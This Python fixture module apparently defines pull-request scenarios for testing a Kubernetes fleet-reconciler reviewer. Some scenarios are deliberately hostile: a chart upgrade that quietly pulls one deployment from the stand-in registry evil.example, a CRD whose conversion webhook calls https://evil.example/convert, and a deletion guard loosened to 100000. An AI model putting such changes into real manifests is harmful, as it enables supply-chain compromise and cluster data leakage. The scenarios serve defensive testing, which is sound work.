"""Pull requests as people write them: the files at base, and those that head changes; an empty one is removed."""

from __future__ import annotations

from typing import NamedTuple

FLEET = "apiVersion: fleet.reconciler/v1alpha1\nkind: Fleet\nmetadata: {name: shop}\nspec:\n  guards: {maxDeletes: 5}\n"
NAMES = ("web", "api", "worker")


class Pull(NamedTuple):
    """A pull request: its store, and what it writes into it."""

    base: dict[str, str]
    head: dict[str, str]


def cluster(name: str) -> str:
    return f"apiVersion: cluster.karmada.io/v1alpha1\nkind: Cluster\nmetadata: {{name: {name}}}\n"


def workload(name: str, image: str, *, namespace: str = "shop", replicas: int = 6, selector: str = "") -> str:
    app = selector or name
    return f"""\
apiVersion: apps/v1
kind: Deployment
metadata: {{name: {name}, namespace: {namespace}}}
spec:
  replicas: {replicas}
  selector: {{matchLabels: {{app: {app}}}}}
  template:
    metadata: {{labels: {{app: {app}}}}}
    spec:
      containers:
      - name: {name}
        image: {image}
"""


def policy(name: str, *kinds: str, namespace: str = "shop", clusters: str = "a, b, c", more: str = "") -> str:
    selectors = "".join(f"  - {{apiVersion: {kind}}}\n" for kind in kinds or ("apps/v1, kind: Deployment",))
    return f"""\
apiVersion: policy.one.alibabacloud.com/v1alpha1
kind: PropagationPolicy
metadata: {{name: {name}, namespace: {namespace}}}
spec:
  resourceSelectors:
{selectors}  placement:
    clusterAffinity: {{clusterNames: [{clusters}]}}
{more}"""


WEIGHTS = """\
    replicaScheduling:
      replicaSchedulingType: Divided
      replicaDivisionPreference: Weighted
      weightPreference:
        staticWeightList:
        - {targetCluster: {clusterNames: [a]}, weight: %s}
        - {targetCluster: {clusterNames: [b]}, weight: 1}
        - {targetCluster: {clusterNames: [c]}, weight: 1}
"""


def chart(version: str, *, evil: bool = False) -> dict[str, str]:
    labels = f"{{helm.sh/chart: shop-{version}, app.kubernetes.io/version: {version}}}"
    metadata = f"metadata: {{name: NAME, namespace: shop, labels: {labels}}}\n"
    config_map = f"apiVersion: v1\nkind: ConfigMap\n{metadata}data: {{a: b}}\n"
    service = f"apiVersion: v1\nkind: Service\n{metadata}spec: {{ports: [{{port: 80}}]}}\n"
    found = {}
    for number in range(60):
        if number < 20:
            text = config_map.replace("NAME", f"c{number}")
        elif number < 40:
            text = service.replace("NAME", f"s{number}")
        else:
            registry = "evil.example" if evil and number == 47 else "r.example.com"
            text = workload(f"d{number}", f"{registry}/d{number}:{version}").replace(
                "namespace: shop}", f"namespace: shop, labels: {labels}}}"
            )
        found[f"chart/{number}.yaml"] = text
    return found


CLUSTERS = {f"clusters/{name}.yaml": cluster(name) for name in "abc"}
APPS = {f"apps/{name}.yaml": workload(name, f"r.example.com/{name}:1.25") for name in NAMES}
BASE = {"fleet.yaml": FLEET, **CLUSTERS, **APPS, "policies/web.yaml": policy("web")}
ALL_KINDS = ("apps/v1, kind: Deployment", "v1, kind: ConfigMap", "v1, kind: Service")
CRD = """\
apiVersion: apiextensions.k8s.io/v1
kind: CustomResourceDefinition
metadata: {name: proxies.example.com}
spec:
  group: example.com
  names: {kind: Proxy, plural: proxies, singular: proxy}
  scope: Namespaced
  conversion:
    strategy: Webhook
    webhook: {conversionReviewVersions: [v1], clientConfig: {url: "https://evil.example/convert"}}
  versions:
  - name: v1
    served: true
    storage: true
    schema: {openAPIV3Schema: {type: object}}
---
apiVersion: policy.one.alibabacloud.com/v1alpha1
kind: ClusterPropagationPolicy
metadata: {name: crd}
spec:
  resourceSelectors: [{apiVersion: apiextensions.k8s.io/v1, kind: CustomResourceDefinition}]
  placement: {clusterAffinity: {clusterNames: [a, b, c]}}
"""

REAL_PULLS: dict[str, Pull] = {
    "image": Pull(BASE, {"apps/web.yaml": workload("web", "r.example.com/web:1.27")}),
    "policy-removed": Pull(BASE, {"policies/web.yaml": ""}),
    "moved-file": Pull(BASE, {"apps/web.yaml": "", "teams/shop/web.yaml": APPS["apps/web.yaml"]}),
    "selector": Pull(BASE, {"apps/web.yaml": workload("web", "r.example.com/web:1.25", selector="store")}),
    "new-cluster": Pull(BASE, {"clusters/d.yaml": cluster("d")}),
    "weights": Pull(
        {**BASE, "policies/web.yaml": policy("web", more=WEIGHTS % 1)},
        {"policies/web.yaml": policy("web", more=WEIGHTS % 4)},
    ),
    "chart-upgrade": Pull(
        {**BASE, "policies/web.yaml": policy("web", *ALL_KINDS), **chart("1.2.0")}, chart("1.3.0", evil=True)
    ),
    "crd": Pull(BASE, {"crd.yaml": CRD}),
    "loosened-settings": Pull(BASE, {"fleet.yaml": FLEET.replace("maxDeletes: 5", "maxDeletes: 100000")}),
    "renamed-namespace": Pull(
        BASE,
        {f"apps/{name}.yaml": workload(name, f"r.example.com/{name}:1.25", namespace="store") for name in NAMES}
        | {"policies/web.yaml": policy("web", namespace="store")},
    ),
    "scaled": Pull(BASE, {"apps/web.yaml": workload("web", "r.example.com/web:1.25", replicas=9)}),
}
